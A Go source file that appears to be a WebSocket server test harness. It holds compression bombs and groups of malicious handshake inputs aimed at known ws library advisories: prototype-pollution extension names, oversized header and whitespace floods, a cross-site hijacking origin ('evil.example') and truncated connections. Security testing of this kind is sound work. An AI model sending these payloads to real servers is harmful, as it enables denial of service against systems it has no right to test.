package attack

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"errors"
	"fmt"
	"strings"
)

// bomb is zeros, compressed: 4 MiB when inflated.
func bomb() string {
	var out bytes.Buffer
	w, err := flate.NewWriter(&out, flate.BestCompression)
	if err == nil {
		_, err = w.Write(make([]byte, 4<<20))
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		panic(err) // it is all in memory
	}
	return out.String()
}

// gzipped is a text that grows a thousandfold.
func gzipped(begin string) string {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, err := w.Write([]byte(begin + strings.Repeat(" ", 4<<20)))
	if err = errors.Join(err, w.Close()); err != nil {
		panic(err)
	}
	return out.String()
}

// offers is an input: a handshake with more lines, on a connection that is asked for often, or that has to be answered once.
func offers(name string, lines ...string) Input {
	return Input{name, func(a *Attacker, w Way) error {
		r, err := a.dial(w)
		if err != nil {
			return err
		}
		if err := r.say(upgrade(w.Path, lines...)); err != nil {
			return err
		}
		if line, err := r.in.ReadString('\n'); err != nil && !ended(err) {
			return fmt.Errorf("no answer to the handshake: %w", err)
		} else if strings.Contains(line, " 500 ") {
			return fmt.Errorf("answered %q", line)
		}
		return nil
	}}
}

// handshakes are attacks by handshakes of WebSocket (RFC 6455 §4).
func handshakes() []Family {
	many := make([]string, 2100)
	for n := range many {
		many[n] = fmt.Sprintf("X-%d: 1", n)
	}
	return []Family{
		{"extensions", "ws, npm advisory 550 (constructor)", shaken, []Input{
			offers("constructor", "Sec-WebSocket-Extensions: constructor"),
			offers("__proto__", "Sec-WebSocket-Extensions: __proto__; toString=1"),
			offers("no grammar", "Sec-WebSocket-Extensions: ;;;===,,,\"", "Sec-WebSocket-Extensions: permessage-deflate; a=\"\\"),
			offers("absurd windows", "Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=99999999999; client_max_window_bits=-1"),
			offers("many", "Sec-WebSocket-Extensions: "+strings.Repeat("permessage-deflate,", 2000)+"x"),
		}},
		{"subprotocols", "ws CVE-2021-32640 (white space)", shaken, []Input{
			offers("white space", "Sec-WebSocket-Protocol: a"+strings.Repeat(" ", 30_000)+"b"),
			offers("commas", "Sec-WebSocket-Protocol: "+strings.Repeat(",", 30_000)),
			offers("no token", "Sec-WebSocket-Protocol: a/b c\tä"),
			offers("many", "Sec-WebSocket-Protocol: "+strings.Repeat("a,", 10_000)+"a"),
		}},
		{"header fields", "ws CVE-2024-37890 (more than the server keeps)", shaken, []Input{
			offers("2,100 of them", many...),
			offers("Upgrade twice", "Upgrade: h2c"),
			offers("a body", "Content-Length: 5"),
			offers("a body without end", "Transfer-Encoding: chunked"),
			offers("keys", "Sec-WebSocket-Key: "+strings.Repeat("A", 30_000)),
		}},
		{"origins", "CSWSH; engine.io", shaken, []Input{
			offers("none", "Origin: null"), offers("no address", "Origin: ::::[[[%zz"), offers("long", "Origin: http://"+strings.Repeat("a.", 20_000)),
			offers("two", "Origin: http://127.0.0.1", "Origin: http://evil.example"),
		}},
		one("handshakes that are cut", "", shaken, func(a *Attacker, w Way) error {
			whole := upgrade(w.Path)
			for n := range a.count(60, 2000) {
				c, err := a.dial(w)
				if err != nil {
					return err
				}
				if err := errors.Join(c.say(whole[:n*7%len(whole)]), c.tcp.Close()); err != nil {
					return err
				}
			}
			return nil
		}),
	}
}
